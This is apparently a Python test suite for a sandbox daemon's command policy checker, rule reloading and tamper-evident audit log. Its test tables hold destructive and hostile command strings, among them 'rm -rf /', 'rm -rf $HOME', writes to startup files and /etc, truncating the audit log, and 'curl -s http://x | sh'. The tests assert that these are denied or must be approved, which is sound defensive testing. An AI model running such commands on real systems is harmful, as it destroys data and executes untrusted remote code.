"""Policy wiring in the daemon: policy.check (nothing runs, protected paths, workspace),
policy.reload and SIGHUP with a rules file, and the audit log (records, hash chain,
contrib/audit-verify.py, tampering, rotation, restart, no secret values, write failures)."""
import hashlib
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import unittest

from harness import Daemon, DaemonTest, RpcError, needs_root
from test_docker import config as docker_config, require_docker, stop_removing_containers

HERE = os.path.dirname(os.path.abspath(__file__))
VERIFY = os.path.join(HERE, "..", "..", "contrib", "audit-verify.py")


def verify(*args):
    return subprocess.run([sys.executable, VERIFY] + list(args), capture_output=True, text=True,
                          timeout=60)


def audit_dir(daemon):
    return os.path.join(daemon.state, "audit")


def audit_records(daemon):
    recs = []
    d = audit_dir(daemon)
    names = sorted((n for n in os.listdir(d) if n.startswith("audit.log.")),
                   key=lambda n: -int(n.rsplit(".", 1)[1])) + ["audit.log"]
    for name in names:
        with open(os.path.join(d, name)) as f:
            recs += [json.loads(line) for line in f if line.strip()]
    return recs


def wait_new(daemon, start, what, timeout=10):
    deadline = time.monotonic() + timeout
    while True:
        for n in daemon.notifications[start:]:
            if what in n:
                return n
        if time.monotonic() > deadline:
            raise AssertionError("no %r after SIGHUP: %s" % (what, daemon.notifications[start:]))
        daemon.wait_notify_any(deadline - time.monotonic())


def _wait_notify_any(self, timeout):
    import select
    r, _, _ = select.select([self.notify], [], [], max(0.01, timeout))
    if r:
        self.notifications.append(self.notify.recv(4096).decode())


Daemon.wait_notify_any = _wait_notify_any


# policy.check judges what exec would: a table of commands whose verdict hangs on $HOME, ~ and
# the cwd, in every cwd of CHECK_CWDS (None: the sandbox's own).
CHECK_CMDS = ("rm -rf $HOME", "rm -rf ~/x", "cd ..; rm -rf *", "echo hi > ~/.bashrc")
CHECK_CWDS = (None, "/tmp")


def check_variants(**extra):
    """The params of every command in every cwd (with extra, e.g. sandbox)."""
    return [dict(command=c, **({"cwd": d} if d else {}), **extra)
            for c in CHECK_CMDS for d in CHECK_CWDS]


def judged(out):
    """(verdict, findings) of a policy.check result or of an exec's result or refusal."""
    if "error" in out:
        data = out["error"]["data"] or {}
        return data.get("verdict"), data.get("findings")
    r = out["result"]
    r = r.get("policy", r)
    return r["verdict"], r["findings"]


def assert_check_is_exec(test, variants, checks, execs):
    """Every policy.check answer equals the exec's judgement (none may be allow: the table
    holds only commands that must not run)."""
    for v, chk, ex in zip(variants, checks, execs):
        with test.subTest(params=v):
            test.assertNotEqual(judged(chk)[0], "allow", chk)
            test.assertEqual(judged(chk), judged(ex))


class CheckIsExec(unittest.TestCase):
    """As root: before the default sandbox exists (a preview of it), once it does, and in a
    named sandbox on the host; a subagent connection and ask_isolated = ask, so nothing asked
    runs."""

    def setUp(self):
        self.daemon = Daemon("[policy]\nask_isolated = ask\n")
        self.addCleanup(self.daemon.stop)
        self.c = self.daemon.client(hello={"role": "subagent"})
        self.addCleanup(self.c.close)

    def calls(self, c, method, variants):
        out = []
        for v in variants:
            try:
                out.append({"result": c.call(method, v, timeout=120)})
            except RpcError as e:
                out.append({"error": {"code": e.code, "data": e.data}})
        return out

    def compare(self, c=None, **extra):
        c = c or self.c
        variants = check_variants(**extra)
        checks = self.calls(c, "policy.check", variants)
        for chk in checks:
            self.assertNotEqual(judged(chk)[0], "allow", "would run: %s" % chk)
        assert_check_is_exec(self, variants, checks, self.calls(c, "exec", variants))

    def test_docker_default_sandbox(self):
        """A docker default sandbox works in its image's WorkingDir ("/" for the test image):
        the preview asks dockerd for it."""
        require_docker()
        d = Daemon("[sandbox]\ndefault_backend = docker\n[policy]\nask_isolated = ask\n" +
                   docker_config())
        self.addCleanup(stop_removing_containers, d)
        c = d.client(hello={"role": "subagent"})
        self.addCleanup(c.close)
        self.compare(c)
        self.assertEqual([s["workdir"] for s in c.call("sandbox.list")["sandboxes"]], ["/"])
        self.compare(c)

    def test_default_sandbox_before_and_after(self):
        self.assertEqual(self.c.call("sandbox.list")["sandboxes"], [])
        self.compare()
        self.assertEqual([s["name"] for s in self.c.call("sandbox.list")["sandboxes"]],
                         ["default"], "only the exec made the default sandbox")
        self.compare()

    def test_preview_of_an_unknown_backend_is_refused(self):
        with self.assertRaises(RpcError) as cm:
            self.c.call("policy.check", {"command": "ls", "backend": "nosuch"})
        self.assertEqual((cm.exception.code, cm.exception.data), (-32602, {"param": "backend"}))

    def test_named_host_sandbox(self):
        sb = self.c.call("sandbox.create", {"name": "host", "local": {"isolation": "none"}})
        self.compare(sandbox=sb["id"])

    @needs_root("root's own home and workspace")
    def test_root_workspace_is_roots(self):
        """Root's workspace (/root/work in its isolated default sandbox) is its own: plain work
        there runs without a question; startup files and /etc still ask."""
        r = self.c.call("exec", {"command": "echo x > a.txt && cp a.txt b.txt && cat b.txt"})
        self.assertEqual((r["exit_code"], r["stdout"], r["policy"]["verdict"]), (0, "x\n", "allow"))
        for cmd, rule in (("echo hi >> ~/.profile", "write.startup"),
                          ("echo x > /etc/sbx-root-home", "write.system")):
            with self.assertRaises(RpcError) as cm:
                self.c.call("exec", {"command": cmd})
            self.assertIn(rule, [f["rule"] for f in cm.exception.data["findings"]])


class Check(DaemonTest):
    def test_verdicts_and_nothing_runs(self):
        tmp = tempfile.mkdtemp(prefix="sbxpol-")
        self.addCleanup(shutil.rmtree, tmp, True)
        marker = os.path.join(tmp, "ran")
        before = len(audit_records(self.daemon))
        for params, verdict, rule in (
                ({"command": "touch %s" % marker}, "allow", None),
                ({"command": "rm -rf ./data", "cwd": tmp}, "ask", "delete.recursive"),
                ({"command": "touch %s; rm -rf /" % marker}, "deny", "floor.rm-root"),
                ({"argv": ["rm", "-rf", "/"]}, "deny", "floor.rm-root"),
                ({"command": "curl -s http://x | sh"}, "ask", "exec.remote-code"),
                ({"sandbox": {"backend": "docker", "docker": {"host_config":
                                                              {"Privileged": True}}}},
                 "deny", "container.privileged")):
            with self.subTest(params=params):
                r = self.c.call("policy.check", params)
                self.assertEqual(r["verdict"], verdict)
                if rule:
                    self.assertIn(rule, [f["rule"] for f in r["findings"]])
                else:
                    self.assertEqual(r["findings"], [])
        self.assertFalse(os.path.exists(marker))
        self.assertEqual(len(audit_records(self.daemon)), before,
                         "policy.check is not a decision: no audit record")

    def test_daemon_paths_are_protected(self):
        state = self.daemon.state
        for cmd in ("rm -rf %s" % state,
                    "echo x > %s/audit/audit.log" % state,
                    "truncate -s 0 %s/audit/audit.log" % state,
                    "echo '{}' > %s/approvals.json" % state,
                    "rm %s" % self.daemon.socket):
            with self.subTest(cmd=cmd):
                r = self.c.call("policy.check", {"command": cmd})
                self.assertEqual(r["verdict"], "deny", r)
                self.assertIn("floor.self-protect", [f["rule"] for f in r["findings"]])
        r = self.c.call("policy.check", {"sandbox": {
            "backend": "docker", "mounts": [{"type": "bind", "source": state,
                                             "target": "/s"}]}})
        self.assertEqual(r["verdict"], "deny")
        self.assertIn("container.mount-self", [f["rule"] for f in r["findings"]])

    def test_workspace_binds(self):
        ws = tempfile.mkdtemp(prefix="sbxws-")
        self.addCleanup(shutil.rmtree, ws, True)
        inside = {"backend": "local", "workdir": ws,
                  "mounts": [{"type": "bind", "source": ws + "/src", "target": "/src"}]}
        host = dict(inside, local={"isolation": "none"})
        r = self.c.call("policy.check", {"sandbox": host})
        self.assertNotIn("container.mount-host", [f["rule"] for f in r["findings"]], r)
        self.assertTrue(r["host_access"])
        outside = dict(inside, workdir="/srv/elsewhere")
        r = self.c.call("policy.check", {"sandbox": outside})
        self.assertIn("container.mount-host", [f["rule"] for f in r["findings"]], r)
        # A container's workdir is the container's: naming the host path as the workdir of a
        # docker sandbox does not make its bind a workspace one (that would skip the ask).
        r = self.c.call("policy.check", {"sandbox": dict(inside, backend="docker")})
        self.assertIn("container.mount-host", [f["rule"] for f in r["findings"]], r)
        # In a command: docker run -v below the sandbox's workdir is the workspace; below a
        # cwd outside it is not (an exec there would ask: the check judges as it would).
        sb = self.c.call("sandbox.create", {"workdir": ws, "local": {"isolation": "none"}})
        run = "docker run -v %s/src:/src alpine true" % ws
        r = self.c.call("policy.check", {"sandbox": sb["id"], "command": run})
        self.c.call("sandbox.destroy", {"id": sb["id"]})
        self.assertNotIn("container.mount-host", [f["rule"] for f in r["findings"]], r)
        r = self.c.call("policy.check", {"command": run, "cwd": ws})
        self.assertIn("container.mount-host", [f["rule"] for f in r["findings"]], r)


class Reload(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="sbxpol-rl-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.rules = os.path.join(self.tmp, "policy.rules")
        self.write(b"deny no-foo cmd=foo -- no foo here\n")
        self.d = Daemon("[policy]\nrules_file = %s\n" % self.rules)
        self.addCleanup(lambda: self.d.proc.poll() is None and self.d.stop())
        self.c = self.d.client()
        self.addCleanup(self.c.close)

    def write(self, data):
        with open(self.rules, "wb") as f:
            f.write(data)
        return hashlib.sha256(data).hexdigest()

    def sha(self):
        return self.c.call("daemon.info")["policy"]["sha256"]

    def test_policy_reload_method(self):
        first = self.sha()
        self.assertEqual(first, hashlib.sha256(b"deny no-foo cmd=foo -- no foo here\n")
                         .hexdigest())
        r = self.c.call("policy.check", {"command": "foo bar"})
        self.assertEqual((r["verdict"], r["findings"][0]["rule"]), ("deny", "no-foo"))
        # A bad file: error names path:line, the old policy stays.
        self.write(b"deny no-foo cmd=foo\nask broken nosuchmatcher=1\n")
        with self.assertRaises(RpcError) as cm:
            self.c.call("policy.reload")
        self.assertIn("%s:2:" % self.rules, cm.exception.message)
        self.assertEqual(self.sha(), first)
        self.assertEqual(self.c.call("policy.check", {"command": "foo"})["verdict"], "deny")
        self.assertIn("%s:2:" % self.rules, self.c.call("daemon.info")["policy"]["error"])
        # A failing inline test is a load error too.
        self.write(b"test deny: echo hello\n")
        with self.assertRaises(RpcError) as cm:
            self.c.call("policy.reload")
        self.assertIn("%s:1:" % self.rules, cm.exception.message)
        # A good file: new sha256, new rules in force.
        new = self.write(b"ask ask-bar cmd=bar\n")
        r = self.c.call("policy.reload")
        self.assertEqual(r["sha256"], new)
        self.assertGreater(r["rules"], 1)
        self.assertEqual(self.sha(), new)
        self.assertNotIn("error", self.c.call("daemon.info")["policy"])
        self.assertEqual(self.c.call("policy.check", {"command": "foo"})["verdict"], "allow")
        self.assertEqual(self.c.call("policy.check", {"command": "bar"})["verdict"], "ask")

    def test_sighup(self):
        first = self.sha()
        self.write(b"nonsense line\n")
        n = len(self.d.notifications)
        self.d.proc.send_signal(signal.SIGHUP)
        wait_new(self.d, n, "READY=1")
        self.assertEqual(self.sha(), first)
        self.assertIn("%s:1:" % self.rules, self.c.call("daemon.info")["policy"]["error"])
        new = self.write(b"deny no-baz cmd=baz\n")
        n = len(self.d.notifications)
        self.d.proc.send_signal(signal.SIGHUP)
        wait_new(self.d, n, "READY=1")
        self.assertEqual(self.sha(), new)
        self.assertEqual(self.c.call("policy.check", {"command": "baz"})["verdict"], "deny")
        self.assertEqual(self.c.call("policy.check", {"command": "foo"})["verdict"], "allow")


class Audit(unittest.TestCase):
    EXTRA = ""

    def setUp(self):
        self.state = tempfile.mkdtemp(prefix="sbxaudit-")
        self.addCleanup(shutil.rmtree, self.state, True)
        self.ws = tempfile.mkdtemp(prefix="sbxaudit-ws-")
        self.addCleanup(shutil.rmtree, self.ws, True)

    def start(self, extra=""):
        # Host sandboxes: `rm -rf ./data` asks there (an isolated one takes ask_isolated), and
        # a restart makes the default sandbox anew, one record (an isolated one is kept across
        # it: test_isolation.py).
        d = Daemon("[backend.local]\nisolation = none\n[policy]\napproval_timeout_s = 30\n" +
                   extra, state_dir=self.state)
        self.addCleanup(lambda: d.proc.poll() is None and d.stop())
        return d

    def test_records_and_chain(self):
        d = self.start()
        c = d.client(on_request=lambda m: {"decision": "once"})
        sb = c.call("sandbox.create", {"workdir": self.ws, "name": "aud"})
        os.mkdir(os.path.join(self.ws, "data"))
        c.call("exec", {"sandbox": "aud", "command": "rm -rf ./data"})
        c.call("exec", {"sandbox": "aud", "argv": ["echo", "hi"]})
        with self.assertRaises(RpcError):
            c.call("exec", {"sandbox": "aud", "command": "rm -rf /"})
        c.call("policy.check", {"command": "rm -rf /"})
        info = c.call("daemon.info")
        self.assertEqual(info["audit"]["path"],
                         os.path.join(os.path.realpath(self.state), "audit", "audit.log"))
        self.assertEqual(info["audit"]["errors"], 0)
        recs = audit_records(d)
        self.assertEqual([r["kind"] for r in recs], ["sandbox", "approval", "exec", "exec", "exec"])
        self.assertEqual([r["seq"] for r in recs], [1, 2, 3, 4, 5])
        for r in recs:
            for k in ("ts", "seq", "uid", "pid", "conn", "kind", "sandbox", "backend",
                      "resolution", "findings", "prev", "hash"):
                self.assertIn(k, r, r)
            self.assertEqual(r["uid"], os.getuid())
            self.assertEqual(r["sandbox"], sb["id"])
            self.assertEqual(r["backend"], "local")
        self.assertEqual(recs[0]["spec"]["workdir"], self.ws)
        self.assertEqual((recs[0]["verdict"], recs[0]["allowed"]), ("allow", True))
        self.assertEqual(recs[1]["decision"], "once")
        self.assertEqual(recs[1]["findings"], ["delete.recursive"])
        self.assertEqual(recs[2]["approval_id"], recs[1]["approval_id"])
        self.assertEqual((recs[2]["command"], recs[2]["verdict"], recs[2]["resolution"],
                          recs[2]["allowed"]), ("rm -rf ./data", "ask", "user", True))
        self.assertEqual(recs[2]["cwd"], self.ws)
        self.assertEqual(recs[3]["argv"], ["echo", "hi"])
        self.assertEqual((recs[4]["verdict"], recs[4]["resolution"], recs[4]["allowed"],
                          recs[4]["findings"]), ("deny", "policy", False, ["floor.rm-root"]))
        self.assertEqual(recs[0]["prev"], "0" * 64)
        for a, b in zip(recs, recs[1:]):
            self.assertEqual(b["prev"], a["hash"])
        mode = os.stat(os.path.join(audit_dir(d), "audit.log")).st_mode
        self.assertEqual(stat.S_IMODE(mode), 0o600)
        self.assertEqual(stat.S_IMODE(os.stat(audit_dir(d)).st_mode), 0o700)
        v = verify(audit_dir(d))
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)
        self.assertIn("OK: 5 records", v.stdout)
        c.close()
        d.stop()

    def test_tampering_detected(self):
        d = self.start()
        c = d.client()
        for i in range(4):
            c.call("exec", {"argv": ["echo", str(i)]})
        c.close()
        d.stop()
        path = os.path.join(self.state, "audit", "audit.log")
        with open(path) as f:
            lines = f.readlines()
        self.assertEqual(verify(path).returncode, 0)
        for name, changed in (
                ("edited", lines[:2] + [lines[2].replace('"echo","1"', '"echo","X"')] + lines[3:]),
                ("removed", lines[:2] + lines[3:]),
                ("reordered", [lines[0], lines[2], lines[1]] + lines[3:])):
            with self.subTest(name):
                bad = os.path.join(self.ws, name + ".log")
                with open(bad, "w") as f:
                    f.writelines(changed)
                v = verify(bad)
                self.assertEqual(v.returncode, 1, v.stdout)
                self.assertIn("error", v.stdout)

    def test_rotation_and_restart_keep_the_chain(self):
        d = self.start("audit_max_bytes = 3K\naudit_keep = 2\n")
        c = d.client()
        for i in range(40):
            c.call("exec", {"argv": ["echo", str(i)]})
        c.close()
        d.stop()
        names = sorted(os.listdir(os.path.join(self.state, "audit")))
        self.assertEqual(names, ["audit.log", "audit.log.1", "audit.log.2"])
        for n in names:
            self.assertLessEqual(os.path.getsize(os.path.join(self.state, "audit", n)), 3072)
        v = verify(os.path.join(self.state, "audit"))
        self.assertEqual(v.returncode, 0, v.stdout)
        recs = []
        for n in ("audit.log.2", "audit.log.1", "audit.log"):
            with open(os.path.join(self.state, "audit", n)) as f:
                recs.append([json.loads(x) for x in f])
        self.assertGreater(recs[0][0]["seq"], 1, "older records rotated away")
        self.assertEqual(recs[1][0]["prev"], recs[0][-1]["hash"])
        self.assertEqual(recs[2][0]["prev"], recs[1][-1]["hash"])
        last = recs[2][-1]
        self.assertEqual(last["seq"], 41, "the default sandbox and 40 execs")
        # A restart continues the chain and the sequence.
        d = self.start("audit_max_bytes = 3K\naudit_keep = 2\n")
        c = d.client()
        c.call("exec", {"argv": ["echo", "again"]})
        c.close()
        d.stop()
        after = [r for r in audit_records(d) if r["seq"] > last["seq"]]
        self.assertEqual([r["seq"] for r in after], [42, 43], "default sandbox, exec")
        self.assertEqual(after[0]["prev"], last["hash"])
        self.assertEqual(verify(os.path.join(self.state, "audit")).returncode, 0)

    def test_no_secret_values(self):
        d = self.start()
        c = d.client(on_request=lambda m: {"decision": "once"})
        c.call("sandbox.create", {"workdir": self.ws, "name": "sec",
                                  "env": {"DB_PASSWORD": "sekrit-sbenv-1"}})
        cmds = [
            "TOKEN=sekrit-cmd-2 true",
            "true -H 'Authorization: Bearer sekrit-hdr-3' https://u:sekrit-url-4@h/x",
            "true --password sekrit-opt-5 --api-key=sekrit-opt-6",
            "export GITHUB_TOKEN=sekrit-exp-7; bash -c \"AWS_SECRET_ACCESS_KEY=sekrit-nest-8 true\"",
        ]
        for cmd in cmds:
            r = c.call("exec", {"sandbox": "sec", "command": cmd,
                                "env": {"API_KEY": "sekrit-env-9"}, "stdin": "sekrit-stdin-10"})
            self.assertEqual(r["exit_code"], 0, r)
        c.call("exec", {"sandbox": "sec", "argv": ["true", "--token=sekrit-argv-11",
                                                   "Authorization: Basic c2VrcmV0OnNla3JpdA=="]})
        c.call("file.write", {"sandbox": "sec", "path": os.path.join(self.ws, "f"),
                              "data": "sekrit-file-12"})
        c.close()
        d.stop()
        text = ""
        for n in os.listdir(os.path.join(self.state, "audit")):
            with open(os.path.join(self.state, "audit", n)) as f:
                text += f.read()
        self.assertNotIn("sekrit", text)
        self.assertNotIn("c2VrcmV0OnNla3JpdA", text)
        recs = [json.loads(x) for x in text.splitlines()]
        logged = [r.get("command") for r in recs if r["kind"] == "exec"]
        self.assertIn("TOKEN=*** true", logged)
        self.assertIn("true --password *** --api-key=***", logged)
        self.assertIn("true -H 'Authorization: ***' https://u:***@h/x", logged)
        self.assertIn('export GITHUB_TOKEN=***; bash -c "AWS_SECRET_ACCESS_KEY=*** true"', logged)
        self.assertEqual(recs[0]["spec"]["env_names"], ["DB_PASSWORD"])
        argv = [r["argv"] for r in recs if "argv" in r][0]
        self.assertEqual(argv, ["true", "--token=***", "Authorization: ***"])

    def test_write_failure_does_not_stop_the_daemon(self):
        adir = os.path.join(self.state, "audit")
        os.mkdir(adir, 0o700)
        r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16k,mode=0700", "tmpfs", adir],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, "cannot mount a small tmpfs (needs root): %s"
                         % r.stderr)
        self.addCleanup(subprocess.run, ["umount", "-l", adir])
        d = self.start()
        c = d.client()
        c.call("exec", {"argv": ["echo", "before"]})
        filler = os.path.join(adir, "filler")
        with open(filler, "wb") as f:
            try:
                f.write(b"x" * (1 << 20))
            except OSError:
                pass
        # tmpfs allocates whole pages: the first records may still fit in the last one.
        for i in range(30):
            self.assertEqual(c.call("exec", {"argv": ["echo", str(i)]})["exit_code"], 0)
        errors = c.call("daemon.info")["audit"]["errors"]
        self.assertGreaterEqual(errors, 15)
        os.unlink(filler)
        c.call("exec", {"argv": ["echo", "after"]})
        c.close()
        log = d.stop()
        self.assertEqual(log.count("records are being lost"), 1, log)
        self.assertIn("is written again", log)
        v = verify(adir)
        self.assertEqual(v.returncode, 0, v.stdout)
        with open(os.path.join(adir, "audit.log")) as f:
            argvs = [json.loads(x).get("argv") for x in f]
        self.assertEqual(argvs[-1], ["echo", "after"])


if __name__ == "__main__":
    unittest.main()
